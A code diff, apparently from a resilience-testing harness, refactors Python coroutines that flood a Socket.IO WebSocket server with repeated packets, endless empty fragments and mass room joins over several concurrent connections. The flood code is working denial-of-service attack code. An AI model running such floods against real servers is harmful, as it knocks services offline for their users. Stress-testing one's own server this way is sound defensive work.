@@ -6,10 +6,9 @@ An attack repeats its harmful bytes as fast as the server reads them, and reconn
 import asyncio
 import gzip
 import itertools
-import json
 from collections.abc import AsyncGenerator, Awaitable, Callable, Iterator
 from contextlib import asynccontextmanager, suppress
-from dataclasses import asdict, dataclass
+from dataclasses import dataclass
 
 RECONNECT_PAUSE = 0.05
 """Pause before a new connection in seconds; without the pause, the attack would measure only its own connects."""
@@ -25,17 +24,13 @@ class AttackCounters:
 
     Attributes:
         units: Packets, frames or requests accepted by the socket.
-        connections: Opened connections.
+        connections: Attempted connections.
         disconnects: Connections closed or refused by the server.
     """
 
     units: int = 0
     connections: int = 0
     disconnects: int = 0
-
-    def to_json(self) -> str:
-        """Return the counters as one JSON line."""
-        return json.dumps(asdict(self))
 
 
 Attack = Callable[[int, AttackCounters], Awaitable[None]]
@@ -51,7 +46,7 @@ def text_frame(packet: str, *, is_final: bool = True, is_first: bool = True) -> 
 
 @asynccontextmanager
 async def websocket(port: int) -> AsyncGenerator[tuple[asyncio.StreamReader, asyncio.StreamWriter]]:
-    """Open a Socket.IO session over WebSocket.
+    """Open a Socket.IO session over WebSocket and send its CONNECT; abort the connection after the block.
 
     Raises:
         OSError: The server refuses the connection.
@@ -73,19 +68,22 @@ async def websocket(port: int) -> AsyncGenerator[tuple[asyncio.StreamReader, asy
 
 
 async def discard_input(reader: asyncio.StreamReader) -> None:
-    """Read until the end of the stream, so that the server never waits for the attacker."""
+    """Read until the end of the stream or a lost connection, so that the server never waits for the attacker."""
     with suppress(OSError):
         while await reader.read(65536):
             pass
 
 
-async def repeat_on_connections(port: int, counters: AttackCounters, chunks: Iterator[bytes], units: int) -> None:
-    """Write chunks of `units` packets over WebSocket until cancelled."""
+async def repeat_on_connections(
+    port: int, counters: AttackCounters, first: bytes, chunks: Iterator[bytes], units: int
+) -> None:
+    """Write chunks of `units` packets over WebSocket until cancelled, after `first` on each new connection."""
     while True:
         counters.connections += 1
         with suppress(OSError, asyncio.IncompleteReadError):
             async with websocket(port) as (reader, writer):
                 reading = asyncio.create_task(discard_input(reader))
+                writer.write(first)
                 try:
                     while not reading.done():
                         writer.write(next(chunks))
@@ -99,16 +97,20 @@ async def repeat_on_connections(port: int, counters: AttackCounters, chunks: Ite
 
 
 def packet_flood(*packets: str, connections: int = 4, batch: int = 200) -> Attack:
-    """Return an attack that repeats packets, after a join of the room `attack`."""
+    """Return an attack that repeats packets, after a join of the room `attack` on each connection.
+
+    Args:
+        packets: Socket.IO packets.
+        connections: Number of concurrent connections.
+        batch: Repetitions per write.
+    """
 
     async def attack(port: int, counters: AttackCounters) -> None:
         join = text_frame('42["joinRoom",{"roomName":"attack","nickName":"mallory"}]')
         frames = b"".join(map(text_frame, packets)) * batch
 
-        async def run() -> None:
-            await repeat_on_connections(port, counters, itertools.chain([join], itertools.repeat(frames)), batch)
-
-        await asyncio.gather(*(run() for _ in range(connections)))
+        chunks, units = itertools.repeat(frames), len(packets) * batch
+        await asyncio.gather(*(repeat_on_connections(port, counters, join, chunks, units) for _ in range(connections)))
 
     return attack
 
@@ -116,18 +118,18 @@ def packet_flood(*packets: str, connections: int = 4, batch: int = 200) -> Attac
 async def flood_with_fragments(port: int, counters: AttackCounters) -> None:
     """Send messages of endless empty fragments."""
     first, fragment = text_frame("4", is_final=False), text_frame("", is_final=False, is_first=False)
-    chunks = itertools.chain([first], itertools.repeat(fragment * 1000))
-    await asyncio.gather(*(repeat_on_connections(port, counters, chunks, 1000) for _ in range(2)))
+    chunks = itertools.repeat(fragment * 1000)
+    await asyncio.gather(*(repeat_on_connections(port, counters, first, chunks, 1000) for _ in range(2)))
 
 
 async def flood_with_joins(port: int, counters: AttackCounters) -> None:
-    """Join new rooms under new names on one connection after another."""
+    """Join new rooms under new names on four connections."""
     numbers = itertools.count()
     chunks = (
         text_frame(f'42["joinRoom",{{"roomName":"attack {number}","nickName":"mallory {number}"}}]')
         for number in numbers
     )
-    await asyncio.gather(*(repeat_on_connections(port, counters, chunks, 1) for _ in range(4)))
+    await asyncio.gather(*(repeat_on_connections(port, counters, b"", chunks, 1) for _ in range(4)))
 
 
 async def repeat_requests(port: int, counters: AttackCounters, request: bytes) -> None:
